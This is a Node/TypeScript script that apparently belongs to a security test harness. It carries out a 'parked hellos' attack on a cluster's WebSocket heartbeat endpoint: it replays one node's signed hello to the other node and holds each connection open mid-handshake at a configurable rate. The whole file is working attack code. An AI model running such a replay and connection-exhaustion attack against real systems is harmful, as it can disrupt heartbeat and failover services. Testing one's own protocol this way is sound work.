// Parked hellos, by someone without the cluster key: take a genuine hello from one node
// (every node greets whoever connects with a signed hello) and hand it to the other node on
// a connection of our own, then hold that connection open and say nothing more. The
// receiving node now has a connection "from its peer" that is mid-handshake. Repeated at
// `--rate` per second in both directions, so there is always a fresh one.
//
//   node parked-hellos.js --a ws://A:7410/vipd/heartbeat --b ws://B:7410/vipd/heartbeat
//        [--rate 5] [--duration-ms 6000]
import { WebSocket } from 'ws';
import { AttackFlags, hardDeadline, report, sleep, summarise } from './attack-io.js';

const flags = new AttackFlags();
const urlA = flags.text('a');
const urlB = flags.text('b');
const ratePerSecond = flags.count('rate', 20, 5);
const durationMs = flags.count('duration-ms', 60_000, 6_000);
hardDeadline(durationMs + 10_000);

const totals = {
  attempts: 0,
  /** Connections the nodes accepted (WebSocket open): the attack reached them. */
  connectionsOpened: 0,
  parked: 0,
  /** Frames the target sent back on a parked connection (its answer to the hello). */
  answers: 0,
  failures: 0,
};
/** How long the target kept each parked connection before closing it. */
const parkedForMs: number[] = [];
const open = new Set<WebSocket>();

function connect(url: string): WebSocket {
  const ws = new WebSocket(url, { perMessageDeflate: false, handshakeTimeout: 2_000 });
  ws.on('error', () => undefined);
  open.add(ws);
  ws.once('open', () => {
    totals.connectionsOpened += 1;
  });
  ws.on('close', () => open.delete(ws));
  return ws;
}

function firstBinary(ws: WebSocket, timeoutMs: number): Promise<Buffer | null> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => {
      resolve(null);
    }, timeoutMs);
    ws.once('message', (data) => {
      clearTimeout(timer);
      resolve(data as Buffer);
    });
    ws.once('close', () => {
      clearTimeout(timer);
      resolve(null);
    });
  });
}

/** One parked hello: `source`'s greeting delivered to `target`, the connection kept. */
async function park(sourceUrl: string, targetUrl: string): Promise<void> {
  totals.attempts += 1;
  const source = connect(sourceUrl);
  const hello = await firstBinary(source, 2_000);
  source.terminate();
  if (hello === null) {
    totals.failures += 1;
    return;
  }
  const target = connect(targetUrl);
  target.on('open', () => {
    // Skip the target's own hello; what matters is that it takes ours.
    target.send(hello, { binary: true });
    totals.parked += 1;
    const parkedAt = performance.now();
    target.on('message', () => {
      totals.answers += 1;
    });
    target.on('close', () => parkedForMs.push(performance.now() - parkedAt));
  });
}

const endAt = performance.now() + durationMs;
report({ t: 'ready' });
let toA = true;
while (performance.now() < endAt) {
  void (toA ? park(urlB, urlA) : park(urlA, urlB));
  toA = !toA;
  await sleep(1_000 / ratePerSecond / 2);
}
const stillOpen = open.size;
for (const ws of open) ws.terminate();
report({ t: 'result', ...totals, stillOpen, parkedFor: summarise(parkedForMs) });
process.exit(0);
